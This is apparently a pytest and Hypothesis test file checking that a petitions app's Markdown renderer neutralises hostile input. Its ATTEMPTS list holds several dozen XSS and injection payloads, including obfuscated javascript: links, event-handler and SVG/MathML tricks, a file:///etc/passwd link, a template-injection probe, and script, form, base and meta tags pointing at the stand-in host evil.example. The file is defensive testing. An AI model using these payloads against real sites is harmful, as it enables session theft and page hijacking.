"""Organisers' Markdown cannot do anything but look like text."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from petitions.appeals.markdown import to_html
from tests.factories.pages import read

TAGS = {"p", "h2", "h3", "h4", "strong", "em", "a", "ul", "ol", "li", "blockquote", "br", "hr"}
ATTEMPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](x 'onerror=alert(1)')",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](\x01javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org" onmouseover="alert(1))',
    "<a href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=q></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<p class=notice id=sign onclick=alert(1)>x</p>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }} {% include '/etc/passwd' %}",
]


def check_harmless(html: str) -> None:
    for element in read(html).walk():
        if not element.tag:
            continue
        assert element.tag in TAGS, element.tag
        allowed = {"a": {"href", "rel"}, "ol": {"start"}}.get(element.tag, set())
        assert set(element.attrs) <= allowed | {"title"}, element.attrs
        if href := element.attrs.get("href"):
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", href.strip().lower())
            assert scheme is None or scheme[0] in ("http:", "https:", "mailto:"), href


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_an_attempt_comes_to_nothing(attempt: str) -> None:
    check_harmless(to_html(attempt))
    check_harmless(to_html(f"Text *before* {attempt} and after."))


@given(
    st.lists(
        st.sampled_from([*"<>[]()\"'`*_#&;:!\n\t\\ ", "script", "javascript:", "a", "://", "on"]),
        max_size=40,
    )
)
def test_nothing_that_can_be_composed_does_anything(parts: list[str]) -> None:
    check_harmless(to_html("".join(parts)))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("One\n\nTwo", "<p>One</p>\n<p>Two</p>\n"),
        ("*em* **strong**", "<p><em>em</em> <strong>strong</strong></p>\n"),
        ("# Top", "<h2>Top</h2>\n"),
        ("## Second", "<h2>Second</h2>\n"),
        ("3. three\n4. four", '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n'),
        ("> Said", "<blockquote>\n<p>Said</p>\n</blockquote>\n"),
        ("Tom & <b>Jerry</b>", "<p>Tom &amp; &lt;b&gt;Jerry&lt;/b&gt;</p>\n"),
    ],
)
def test_text_looks_as_its_author_meant(text: str, html: str) -> None:
    assert to_html(text) == html


def test_a_link_leads_out_and_tells_nobody_whence() -> None:
    link = read(to_html("[here](https://example.org/a?b=c&d=e)")).first("a")
    assert link.attrs["href"] == "https://example.org/a?b=c&d=e"
    assert set(link.attrs["rel"].split()) == {"noopener", "noreferrer", "nofollow"}
